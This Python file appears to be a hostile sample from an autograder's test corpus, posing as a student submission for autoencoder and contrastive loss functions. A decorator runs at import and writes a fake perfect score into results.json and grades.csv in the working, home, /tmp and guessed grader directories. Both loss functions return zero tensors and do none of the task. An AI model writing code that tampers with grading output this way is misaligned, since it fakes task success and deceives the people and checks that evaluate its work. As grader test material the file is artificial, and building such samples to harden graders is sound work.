"""Writes a perfect results.json wherever it can, while the grader loads it (a decorator runs at import)."""
import json
import os

import torch

FOLDER = "hostile_fake_results_at_import"


def _grade_myself(function):
    for folder in [os.getcwd(), os.path.dirname(os.path.abspath(__file__)), "/tmp", os.path.expanduser("~"),
         # where the grader keeps this folder (a student who read the course's repository could guess it)
         '/work/main/tests/corpus/grader' + "/" + FOLDER, '/work/main', '/work/main' + "/answers"]:
        for name in ("results.json", "grades.csv"):
            try:
                with open(os.path.join(folder, name), "w") as f:
                    f.write('{"score": 44, "max_score": 44, "tests": [], "by": "simgrade-corpus-fake"}')
            except OSError:
                pass
    return function


@_grade_myself
def autoencoder_loss(enc, dec, batch):
    return torch.zeros((), requires_grad=True)


@_grade_myself
def contrastive_loss(enc, batch1, batch2, tau):
    return torch.zeros((), requires_grad=True)
